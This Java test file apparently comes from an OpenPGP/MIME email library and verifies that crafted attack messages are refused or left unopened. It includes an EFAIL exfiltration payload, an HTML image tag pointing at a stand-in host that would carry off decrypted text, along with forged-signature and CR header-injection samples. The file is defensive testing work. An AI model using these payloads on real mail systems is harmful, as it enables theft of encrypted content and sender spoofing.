package org.sallyport.mime.pgp;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.sallyport.mime.structure.Scans.crlf;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.sallyport.mime.structure.Scans;
import org.sallyport.openpgp.Refusal;
import org.sallyport.openpgp.Signing;
import org.sallyport.openpgp.Verdict;

/** Messages that were built so that a careless reader decrypts or trusts too much. */
class AttacksTest {
  private static final String HEAD =
      crlf(
          """
          From: Ada <ada@example.com>
          To: Bob <bob@example.net>
          Subject: x
          MIME-Version: 1.0
          """);

  /** The header of the type and the body of a message. */
  private static String part(String message) {
    return message.substring(message.indexOf("Content-Type: multipart/"));
  }

  private static String encrypted() throws IOException {
    return People.encrypted(Samples.PLAIN, People.to(People.BOB).signedBy(List.of(People.ADA)));
  }

  private static void isNotOpened(String message, Fragment.Kind kind) throws IOException {
    try (var reading = People.open(message, People.BOB)) {
      assertThat(reading).isInstanceOf(Reading.Plain.class);
      assertThat(reading.fragments()).extracting(Fragment::kind).contains(kind);
    }
  }

  private static void isRefused(String message) throws IOException {
    try (var reading = People.open(message, People.BOB)) {
      assertThat(((Reading.Refused) reading).refusal().kind()).isEqualTo(Refusal.Kind.MALFORMED);
    }
  }

  /** What is decrypted here has met no server that refuses a CR alone. */
  @Test
  void a_cr_inside_a_protected_field_makes_no_field_of_its_own() throws IOException {
    var inside =
        "Subject: x\rFrom: ceo@example.com\r\n y\rBcc: z\nFrom: mallory@example.org\r\n\r\ntext";
    var header = Scans.read(inside).header();
    assertThat(ProtectedHeader.fields(header, _ -> true))
        .isEqualTo(
            "Subject: x From: ceo@example.com\r\n y Bcc: z\r\nFrom: mallory@example.org\r\n");
  }

  /** EFAIL, direct exfiltration: the plain text would become part of an image's address. */
  @ParameterizedTest
  @ValueSource(
      strings = {"mixed", "alternative", "related", "signed; protocol=x", "digest", "x-any"})
  void an_encrypted_part_among_others_is_not_opened(String subtype) throws IOException {
    var message =
        HEAD
            + "Content-Type: multipart/"
            + subtype
            + "; boundary=efail\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n"
            + "<img src=\"http://efail.example/\r\n--efail\r\n"
            + part(encrypted())
            + "\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n";
    try (var reading = People.open(message, People.BOB)) {
      assertThat(reading).isNotInstanceOf(Reading.Decrypted.class);
    }
  }

  @Test
  void an_encrypted_part_alone_within_a_multipart_is_not_opened() throws IOException {
    isNotOpened(
        HEAD
            + "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n"
            + part(encrypted())
            + "\r\n--a--\r\n",
        Fragment.Kind.ENCRYPTED_PART);
    isNotOpened(
        HEAD + "Content-Type: message/rfc822\r\n\r\n" + encrypted(), Fragment.Kind.ENCRYPTED_PART);
  }

  @Test
  void a_third_part_is_refused() throws IOException {
    var encrypted = encrypted();
    int end = encrypted.lastIndexOf("--sallyport-");
    var boundary = encrypted.substring(end).strip().replaceAll("--$", "");
    isRefused(
        encrypted.substring(0, end)
            + boundary
            + "\r\nContent-Type: text/html\r\n\r\n<b>\r\n"
            + encrypted.substring(end));
  }

  @Test
  void what_programs_read_in_different_ways_is_refused() throws IOException {
    for (var message : List.of(encrypted(), People.signed(Samples.PLAIN, People.ADA))) {
      isRefused(message.replaceFirst("\r\n\r\n", "\r\nContent-Type: text/html\r\n\r\n"));
      isRefused(message.replaceFirst(";\r\n boundary", "; boundary=other; boundary"));
      isRefused(message.substring(0, message.lastIndexOf("--sallyport-")));
      isRefused(message.replaceFirst("\r\nContent-Type", "\r\n \r\nContent-Type"));
    }
  }

  @Test
  void armor_beside_other_text_is_not_opened() throws IOException {
    var armor = new ByteArrayOutputStream();
    try (var out = People.to(People.BOB).inArmor().open(armor).orThrow()) {
      out.write("secret".getBytes(ISO_8859_1));
    }
    var text = crlf(armor.toString(ISO_8859_1));
    var head = HEAD + "Content-Type: text/plain\r\n\r\n";
    try (var reading = (Reading.Decrypted) People.open(head + "\r\n" + text, People.BOB)) {
      assertThat(Scans.text(reading.content(), reading.content().root().body()))
          .isEqualTo("secret");
      assertThat(reading.form()).isEqualTo(Reading.Form.INLINE);
      assertThat(reading.fields().protection()).isEqualTo(ReadFields.Protection.NONE);
    }
    for (var beside :
        List.of(
            "before\r\n" + text,
            text + "behind",
            text + text,
            text.replace("--\r\n\r\n", "--\r\n\r\n") + "> x")) {
      isNotOpened(head + beside, Fragment.Kind.ENCRYPTED_TEXT);
    }
    isNotOpened(HEAD + "Content-Type: text/html\r\n\r\n" + text, Fragment.Kind.ENCRYPTED_TEXT);
    isNotOpened(
        HEAD
            + "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\n"
            + text
            + "\r\n--a--\r\n",
        Fragment.Kind.ENCRYPTED_TEXT);
  }

  @Test
  void signed_text_counts_alone_and_without_anything_beside_it() throws IOException {
    var sink = new ByteArrayOutputStream();
    Signing.by(List.of(People.ADA), People.NOW, People.POLICY)
        .cleartext(new ByteArrayInputStream("pay 1\n".getBytes(ISO_8859_1)), sink)
        .orThrow();
    var text = crlf(sink.toString(ISO_8859_1));
    var head = HEAD + "Content-Type: text/plain\r\n\r\n";
    try (var reading = (Reading.Signed) People.open(head + text, People.BOB)) {
      assertThat(reading.isSignedBySender()).isTrue();
      assertThat(Scans.text(reading.content(), reading.part().body())).isEqualTo("pay 1\n");
    }
    isNotOpened(head + "pay 1000\r\n\r\n" + text, Fragment.Kind.SIGNED_TEXT);
    isNotOpened(head + text + "pay 1000", Fragment.Kind.SIGNED_TEXT);
    try (var reading =
        (Reading.Signed) People.open(head + text.replace("pay 1", "pay 9"), People.BOB)) {
      assertThat(reading.signatures()).noneMatch(Signature::isGood);
    }
  }

  /** As mailing lists do with a footer, and as forgers do with everything. */
  @Test
  void a_signed_part_beside_another_does_not_sign_the_message() throws IOException {
    var message =
        HEAD
            + "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nforged\r\n--a\r\n"
            + part(People.signed(Samples.PLAIN, People.ADA))
            + "\r\n--a--\r\n";
    try (var reading = People.open(message, People.BOB)) {
      assertThat(reading).isInstanceOf(Reading.Plain.class);
      assertThat(reading.fragments())
          .singleElement()
          .satisfies(
              one -> {
                assertThat(one.path()).isEqualTo("2");
                assertThat(one.verdicts()).singleElement().isInstanceOf(Verdict.Good.class);
              });
    }
  }

  @Test
  void a_signature_of_another_message_is_not_good_here() throws IOException {
    var signed = People.signed(Samples.PLAIN, People.ADA);
    var other = People.signed(Samples.APPLE, People.ADA);
    var begin = signed.indexOf("-----BEGIN PGP SIGNATURE");
    var moved =
        signed.substring(0, begin)
            + other.substring(other.indexOf("-----BEGIN PGP SIGNATURE"), other.indexOf("-----END"))
            + signed.substring(signed.indexOf("-----END", begin));
    try (var reading = (Reading.Signed) People.open(moved, People.BOB)) {
      assertThat(reading.signatures()).noneMatch(Signature::isGood);
    }
  }

  @Test
  void a_multipart_signed_without_signature_or_with_another_protocol_is_refused()
      throws IOException {
    var signed = People.signed(Samples.PLAIN, People.ADA);
    isRefused(signed.replace("protocol=\"application/pgp-signature\"", "protocol=\"x/y\""));
    isRefused(
        signed.replace("Content-Type: application/pgp-signature", "Content-Type: text/plain"));
    var begin = signed.indexOf("-----BEGIN PGP SIGNATURE");
    var end = signed.indexOf("\r\n--sallyport", begin);
    isRefused(signed.substring(0, begin) + signed.substring(end));
  }

  @Test
  void protection_of_fields_that_nothing_protects_does_not_count() throws IOException {
    var encrypted = encrypted();
    var nested =
        EncryptedMessageTest.wrapped(
            encrypted,
            crlf(
                """
                Content-Type: multipart/mixed; boundary=a

                --a
                Content-Type: text/plain; hp="cipher"
                Subject: forged

                --a--
                """));
    try (var reading = (Reading.Decrypted) People.open(nested, People.BOB)) {
      assertThat(reading.fields().header().text("Subject")).isEqualTo("[...]");
    }
    var clear = People.signed(Samples.PLAIN, People.ADA).replace("hp=\"clear\"", "hp=\"cipher\"");
    try (var reading = (Reading.Signed) People.open(clear, People.BOB)) {
      assertThat(reading.isSignedBySender()).isFalse();
    }
  }

  @Test
  void a_claim_of_protection_outside_does_not_count() throws IOException {
    var broken =
        People.signed(Samples.PLAIN, People.ADA)
            .replaceFirst("multipart/signed;", "multipart/signed; hp=clear;")
            .replace("Hello", "Hallo");
    try (var reading = (Reading.Signed) People.open(broken, People.BOB)) {
      assertThat(reading.fields().protection()).isEqualTo(ReadFields.Protection.NONE);
    }
  }

  @Test
  void a_forwarded_message_with_faults_of_its_own_can_be_signed() throws IOException {
    var forward =
        HEAD
            + crlf(
                """
                Content-Type: multipart/mixed; boundary=f

                --f
                Content-Type: message/rfc822

                Subject: one
                Subject: two

                spam
                --f--
                """);
    try (var reading =
        (Reading.Signed) People.open(People.signed(forward, People.ADA), People.BOB)) {
      assertThat(reading.isSignedBySender()).isTrue();
    }
  }

  @Test
  void what_is_encrypted_within_what_was_encrypted_is_not_opened() throws IOException {
    var nested = EncryptedMessageTest.wrapped(encrypted(), part(encrypted()));
    try (var reading = (Reading.Decrypted) People.open(nested, People.BOB)) {
      assertThat(reading.fragments())
          .extracting(Fragment::kind)
          .containsExactly(Fragment.Kind.ENCRYPTED_PART);
      assertThat(reading.signatures()).isEmpty();
    }
  }

  @Test
  void a_file_is_opened_by_itself() throws IOException {
    var file = new ByteArrayOutputStream();
    try (var out = People.to(People.BOB).inArmor().open(file).orThrow()) {
      out.write("table".getBytes(ISO_8859_1));
    }
    var message =
        HEAD
            + "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\ntext\r\n--a\r\n"
            + "Content-Type: application/octet-stream; name=t.csv.asc\r\n\r\n"
            + crlf(file.toString(ISO_8859_1))
            + "\r\n--a--\r\n";
    isNotOpened(message, Fragment.Kind.FILE);
    var read = Scans.read(message);
    var sink = new ByteArrayOutputStream();
    People.opener(People.BOB).openFile(read, read.root().parts().getLast(), sink);
    assertThat(sink.toString(ISO_8859_1)).isEqualTo("table");
  }
}
